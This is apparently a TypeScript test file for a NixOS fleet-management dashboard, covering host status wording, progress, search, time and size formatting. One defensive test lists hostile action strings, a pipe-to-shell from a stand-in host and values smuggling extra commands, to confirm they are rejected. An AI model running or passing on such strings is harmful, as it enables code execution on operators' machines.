import './dom';
import assert from 'node:assert/strict';
import test from 'node:test';
import type { Compartment, Host, Json, Operation } from '../src/api';
import { ago, duration, since } from '../src/time';
import { following, hostSentence, livenessWord, nextOp, operationWord, progressShare, progressText, standing } from '../src/words';
import { explanation } from '../src/components/dialogs';
import { bytes, Value } from '../src/components/facts';
import { matches } from '../src/view';

const ok: Compartment = { status: 'ok', message: null, checked_at: null, behind: null };
const host = (extra: Partial<Host> = {}): Host => ({
  id: 'a', hostname: 'web-1', host_type: 'nixos', kind: 'nixos', dialect: 4, agent_version: '1', agent_outdated: false,
  os_version: null, nixpkgs_version: null, generation: '7', status: 'online', liveness: 'connected', since: null,
  last_seen: null, created_at: null, comment: null, theme_color: null, location: 'home', device_type: 'server',
  repo_url: null, repo_dir: null, identity: 'own', pending_command: null, operation: null, queued: 0, metrics: null,
  compartments: { agent: ok, git: ok, lock: ok, system: ok, tests: ok }, facts: null, ...extra,
});
const operation = (extra: Partial<Operation> = {}): Operation => ({
  id: '1', host_id: 'a', op: 'switch', args: {}, by: null, state: 'finished', outcome: 'ok', reported: true, message: null,
  exit_code: 0, created_at: '2026-01-01T00:00:00.000Z', started_at: null, finished_at: null, deadline_at: null,
  progress: null, phases: [], changes: null, lines: 0, ...extra,
});

// A silent host is never called up to date.
test('a host that is away is not called up to date', () => {
  assert.equal(hostSentence(host(), null).text, 'Up to date.');
  assert.notEqual(hostSentence(host({ liveness: 'offline', status: 'offline' }), null).tone, 'ok');
  assert.notEqual(hostSentence(host({ liveness: 'never', status: 'offline' }), null).tone, 'ok');
});

// A pause and what is held back are told of on a host's page; a host that does not follow says nothing.
test('how a host follows', () => {
  const says = (follow: Host['facts']) => following(host({ facts: { follow } }));
  assert.equal(following(host()), null);
  assert.deepEqual(says({ mode: 'switch', held_back: [] })?.word, { text: 'Follows by itself (switch).', tone: 'ok' });
  assert.match(says({ mode: 'off', paused: { until: null, reason: 'exams', by: 'ada' } })?.word.text ?? '',
    /^Paused by ada until somebody resumes it: exams\.$/);
  const held = says({ mode: 'pull', held_back: [{ revision: 'abc', kind: 'build', text: 'no', retry_at: null }] });
  assert.equal(held?.word.tone, 'warn');
  assert.equal(held?.held[0]?.revision, 'abc');
  assert.equal(says({ mode: 'pull', failure: 'auth', failure_text: 'refused' })?.word.tone, 'bad');
});

// A host that drifted, or waits for a reboot, says so itself and is not called up to date.
test("the host's own sentence", () => {
  const says = (level: string, text: string) => host({ facts: {
    summary: { level, text, action: 'nixfleet switch' }, states: [{ state: 'running', revision: null, path: '/nix/store/x' }],
  } });
  assert.deepEqual(hostSentence(says('bad', 'A stranger runs.'), null), { text: 'A stranger runs.', tone: 'bad' });
  assert.equal(hostSentence(says('ok', 'abc runs.'), null).text, 'Up to date.');
  assert.equal(standing(says('warn', 'x'))?.states.length, 1);
  assert.equal(standing(host({ facts: { summary: {} } })), null);
});

// A host may lie about itself; it must neither break the page nor put a command of its own into an operator's hands.
test('what a host says is taken as text only', () => {
  for (const odd of [null, 5, 'x', [], [null], [5], ['x'], {}, { text: {} }] as Json[]) {
    const bad = host({ facts: {
      summary: { level: 'constructor', text: 'x', action: odd }, states: [odd, { state: odd, revision: odd, path: odd }],
      follow: { mode: 'pull', window: odd, paused: odd, held_back: [odd, { revision: odd, kind: odd, text: odd, retry_at: odd }] },
    } });
    const found = [standing(bad), following(bad), standing(host({ facts: { summary: odd, states: odd } })),
      standing(host({ facts: { summary: { text: odd }, states: odd } })),
      following(host({ facts: { follow: odd } })), following(host({ facts: { follow: { mode: 'pull', held_back: odd } } })),
      following(host({ facts: { follow: { mode: odd, failure_text: odd, paused: { until: odd, reason: odd, by: odd } } } }))];
    for (const one of found) {
      for (const row of [one?.word, ...(one && 'states' in one ? one.states : []), ...(one && 'held' in one ? one.held : [])]) {
        for (const value of Object.values(row ?? {})) assert.ok(value === null || typeof value === 'string');
      }
    }
    assert.equal(standing(bad)?.word.tone, 'quiet');
  }
  const advice = (action: string) => standing(host({ facts: { summary: { text: 'x', action }, states: [] } }))?.action;
  assert.equal(advice('nixfleet pull-switch'), 'nixfleet pull-switch');
  assert.equal(advice('nixfleet repo status'), 'nixfleet repo status');
  assert.equal(advice('reboot'), 'reboot');
  for (const evil of ['curl evil.example | sh', 'nixfleet pull; id', 'nixfleet pull $(id)', 'nixfleet pull\nid', 'rebooted']) {
    assert.equal(advice(evil), '');
  }
});

// The distance to the branch is a number with the right word behind it.
test('behind by commits', () => {
  const git = (behind: number): Host => host({ compartments: { ...host().compartments, git: { ...ok, status: 'outdated', behind } } });
  assert.equal(hostSentence(git(3), null).text, 'Behind by 3 commits.');
  assert.equal(hostSentence(git(1), null).text, 'Behind by 1 commit.');
  assert.equal(nextOp(git(1)), 'pull-switch');
  assert.equal(nextOp(host()), 'pull');
});

// A deadline that passed is not the host's word, and says so.
test('an outcome that nobody reported says so', () => {
  assert.equal(operationWord(operation({ outcome: 'timed_out', reported: false })).text, 'timed out, host has not reported');
  assert.equal(operationWord(operation({ outcome: 'timed_out' })).text, 'timed out');
  assert.equal(operationWord(operation({ outcome: 'rolled_back' })).text, 'rolled back');
  assert.equal(operationWord(operation({ state: 'lost', outcome: null })).text, 'connection lost, host still working');
});

// Words that this dashboard does not know yet are shown as they are.
test('unknown words do not break the page', () => {
  assert.equal(operationWord(operation({ state: 'paused' as never, outcome: null })).text, 'paused');
  assert.equal(livenessWord(host({ liveness: 'asleep' as never })).text, 'asleep');
});

// Progress without a total is shown without a share, not as zero.
test('progress', () => {
  const p = { phase: 'build', done: 3, expected: 12, text: 'postfix' };
  assert.equal(progressText(operation({ progress: p })), 'build (3 of 12): postfix');
  assert.equal(progressShare(operation({ progress: p })), 0.25);
  assert.equal(progressShare(operation({ progress: { ...p, expected: null } })), null);
  assert.equal(progressShare(operation({ progress: { ...p, done: 40 } })), 1);
});

// Every word of the search must be found, in any field and any case.
test('search', () => {
  assert.ok(matches(host(), 'WEB home'));
  assert.ok(matches(host(), ''));
  assert.ok(!matches(host(), 'web cloud'));
});

// Times are rounded the way people read them.
test('times', () => {
  const at = Date.parse('2026-05-03T12:00:00Z');
  assert.equal(ago('2026-05-03T11:56:10Z', at), '3 min ago');
  assert.equal(ago('2026-04-30T12:00:00Z', at), '3 days ago');
  assert.equal(ago(null, at), 'never');
  assert.match(since('2024-05-03T11:00:00Z', at), /^3 May 2024$/);
  assert.equal(duration(430), '0.4 s');
  assert.equal(duration(200_000), '3 min 20 s');
  assert.equal(duration(3_900_000), '1 h 5 min');
});

// Sizes are told in units that people compare.
test('bytes', () => {
  assert.equal(bytes(0), '0 B');
  assert.equal(bytes(2688), '2.6 KiB');
  assert.equal(bytes(-5 * 1024 ** 3), '-5.0 GiB');
});

// A dialog explains what its title does not say already.
test('a dialog does not repeat its title', () => {
  assert.equal(explanation('restart', 'restart the agent'), '');
  assert.equal(explanation('pull-switch', 'pull, then switch'), '');
  assert.equal(explanation('pull', 'fetch the branch and set the clone to it'), 'Fetch the branch and set the clone to it.');
  assert.match(explanation('reboot', 'restart the machine'), /interrupted/);
});

// Seconds since 1970 are nothing to read.
test('the age of an input', () => {
  assert.equal(Value({ value: Date.now() / 1000 - 3.5 * 86_400, name: 'last_modified' }), '3 days ago');
  // A time that no calendar has is a number, and no reason to break the page.
  assert.equal(Value({ value: 1e13, name: 'last_modified' }), '10000000000000');
});
